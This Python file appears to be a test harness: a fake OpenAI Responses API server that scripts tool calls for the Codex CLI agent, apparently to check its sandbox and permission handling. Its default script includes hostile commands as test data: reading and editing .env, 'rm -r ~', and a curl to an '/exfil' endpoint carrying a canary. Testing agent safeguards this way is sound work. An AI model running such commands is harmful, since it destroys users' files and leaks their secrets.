#!/usr/bin/env python3
"""A scripted stand-in for the OpenAI Responses API, for running the real
Codex CLI offline (a model_providers entry in ~/.codex/config.toml with
base_url = "http://127.0.0.1:PORT/v1" and wire_api = "responses").

Standard library only. The main conversation (a request that offers the
exec_command tool) follows a fixed script, one step per tool output already
in the conversation's input:

    step N < len(script) -> the script's Nth call: exec_command {"cmd": ...}
                            or apply_patch with raw patch text
    otherwise            -> the assistant message FINAL_TEXT ("done")

Every other request (a side query, GET /v1/models, anything unknown) gets a
minimal valid answer at once, so the CLI never stalls. Every request is
logged as one JSON line (method, path, headers, body, note) to --log.

    python3 fake_responses.py [--port N] [--port-file F] [--log F] [--script F]
                              [--first-delay S]

--script F replaces the default script with the JSON list in F, whose items
are {"exec": "CMD"} or {"patch": "PATCH TEXT"}. --first-delay S holds the
first main-loop answer for S seconds: Codex writes its shell snapshot in the
background at start, and its tool calls take the snapshot wrapper's shape
only once that snapshot exists.
"""

import argparse
import gzip
import itertools
import json
import os
import sys
import threading
import time
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

MODEL = "gpt-5.5"

SCRIPT = [
    {"exec": "ls"},
    {"exec": "cat README.md"},
    {"exec": "cat .env"},
    {"patch": "*** Begin Patch\n*** Update File: .env\n@@\n+EXTRA=from-the-model\n*** End Patch\n"},
    {"patch": "*** Begin Patch\n*** Add File: NOTES.md\n+notes from the model\n*** End Patch\n"},
    {"exec": "rm -r ~"},
    # A tool call that tries to reach this very server ({port}: its port):
    # the network issue's exfiltration case, refused at its connect.
    {"exec": "curl -s -m 5 http://127.0.0.1:{port}/exfil?d=canary"},
]
PORT = [0]
FINAL_TEXT = "done"

_ids = itertools.count(1)
_log_lock = threading.Lock()


def next_id(prefix):
    return "%s_%024d" % (prefix, next(_ids))


def sse(data):
    return ("event: %s\ndata: %s\n\n" % (data["type"], json.dumps(data, separators=(",", ":")))).encode()


def tool_names(req):
    names = set()
    for t in req.get("tools") or []:
        if isinstance(t, dict):
            names.add(t.get("name") or (t.get("function") or {}).get("name"))
    return names


OUTPUT_TYPES = ("function_call_output", "custom_tool_call_output")


def count_outputs(req):
    inp = req.get("input")
    if not isinstance(inp, list):
        return 0
    return sum(1 for it in inp if isinstance(it, dict) and it.get("type") in OUTPUT_TYPES)


def plan(req):
    """The output items for a /responses request, and a note for the log."""
    if "exec_command" in tool_names(req):
        step = count_outputs(req)
        if step < len(SCRIPT):
            s = SCRIPT[step]
            if "exec" in s:
                item = {
                    "type": "function_call",
                    "id": next_id("fc"),
                    "name": "exec_command",
                    "arguments": json.dumps({"cmd": s["exec"].replace("{port}", str(PORT[0]))}),
                    "call_id": next_id("call"),
                }
                return [item], "main step %d: exec_command %s" % (step, s["exec"])
            item = {
                "type": "custom_tool_call",
                "id": next_id("ctc"),
                "name": "apply_patch",
                "input": s["patch"],
                "call_id": next_id("call"),
                "status": "completed",
            }
            return [item], "main step %d: apply_patch" % step
        return [message(FINAL_TEXT)], "main final"
    return [message('{"title": "List files"}')], "side query"


def message(text):
    return {
        "type": "message",
        "id": next_id("msg"),
        "role": "assistant",
        "status": "completed",
        "content": [{"type": "output_text", "text": text, "annotations": []}],
    }


def usage():
    return {
        "input_tokens": 12,
        "input_tokens_details": {"cached_tokens": 0},
        "output_tokens": 8,
        "output_tokens_details": {"reasoning_tokens": 0},
        "total_tokens": 20,
    }


def stream_body(req, items):
    rid = next_id("resp")
    base = {"id": rid, "object": "response", "model": req.get("model") or MODEL, "status": "in_progress", "output": []}
    out = [sse({"type": "response.created", "response": base})]
    for i, it in enumerate(items):
        out.append(sse({"type": "response.output_item.added", "output_index": i, "item": it}))
        if it["type"] == "message":
            text = it["content"][0]["text"]
            out.append(
                sse(
                    {
                        "type": "response.output_text.delta",
                        "item_id": it["id"],
                        "output_index": i,
                        "content_index": 0,
                        "delta": text,
                    }
                )
            )
        out.append(sse({"type": "response.output_item.done", "output_index": i, "item": it}))
    done = dict(base, status="completed", output=items, usage=usage())
    out.append(sse({"type": "response.completed", "response": done}))
    return b"".join(out)


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "fake-responses/1"

    def log_message(self, fmt, *args):  # quiet: the JSON log has it all
        pass

    def _read_body(self):
        raw = b""
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            while True:
                size = int(self.rfile.readline().strip().split(b";")[0], 16)
                if size == 0:
                    self.rfile.readline()
                    break
                raw += self.rfile.read(size)
                self.rfile.readline()
        else:
            n = int(self.headers.get("Content-Length") or 0)
            raw = self.rfile.read(n) if n else b""
        enc = self.headers.get("Content-Encoding", "").lower()
        try:
            if enc == "gzip":
                raw = gzip.decompress(raw)
            elif enc == "deflate":
                raw = zlib.decompress(raw)
            elif enc == "zstd":
                pass  # not in the standard library; logged raw
        except Exception:
            pass
        return raw

    def _log(self, body, note):
        try:
            text = body.decode("utf-8")
            try:
                parsed = json.loads(text) if text else None
            except ValueError:
                parsed = text
        except UnicodeDecodeError:
            parsed = repr(body[:2000])
        rec = {
            "t": round(time.time(), 3),
            "method": self.command,
            "path": self.path,
            "headers": {k: v for k, v in self.headers.items() if k.lower() not in ("authorization",)},
            "note": note,
            "body": parsed,
        }
        with _log_lock:
            with open(self.server.log_path, "a") as f:
                f.write(json.dumps(rec) + "\n")

    def _send(self, code, body, ctype="application/json", extra=None):
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("x-request-id", next_id("req"))
        for k, v in (extra or {}).items():
            self.send_header(k, v)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)
        self.wfile.flush()

    def _handle(self):
        body = self._read_body() if self.command in ("POST", "PUT", "PATCH", "DELETE") else b""
        path = self.path.split("?", 1)[0]
        try:
            req = json.loads(body) if body else {}
            if not isinstance(req, dict):
                req = {}
        except ValueError:
            req = {}

        if self.command == "POST" and path.endswith("/responses"):
            items, note = plan(req)
            if note.startswith("main step 0") and self.server.first_delay > 0:
                time.sleep(self.server.first_delay)
                self.server.first_delay = 0
            self._log(body, note)
            return self._send(200, stream_body(req, items), "text/event-stream", {"Cache-Control": "no-cache"})
        if self.command == "GET" and path.endswith("/models"):
            self._log(body, "models")
            return self._send(200, b'{"object": "list", "data": [], "models": []}')
        self._log(body, "other")
        return self._send(404, b'{"error": {"message": "not here", "type": "not_found"}}')

    do_GET = do_POST = do_HEAD = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = _handle


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--port", type=int, default=0, help="0: an ephemeral port")
    ap.add_argument("--port-file", help="write the port here once listening")
    ap.add_argument("--log", default="fake_responses.log", help="one JSON line per request")
    ap.add_argument("--script", help="a JSON list of steps to run instead of the default script")
    ap.add_argument("--first-delay", type=float, default=0, help="hold the first main answer S seconds")
    a = ap.parse_args()
    if a.script:
        with open(a.script) as f:
            SCRIPT[:] = json.load(f)

    srv = ThreadingHTTPServer(("127.0.0.1", a.port), Handler)
    srv.daemon_threads = True
    srv.log_path = os.path.abspath(a.log)
    srv.first_delay = a.first_delay
    port = srv.server_address[1]
    PORT[0] = port
    if a.port_file:
        tmp = a.port_file + ".tmp"
        with open(tmp, "w") as f:
            f.write("%d\n" % port)
        os.rename(tmp, a.port_file)
    print("fake_responses: listening on 127.0.0.1:%d, log %s" % (port, srv.log_path), file=sys.stderr, flush=True)
    try:
        srv.serve_forever()
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
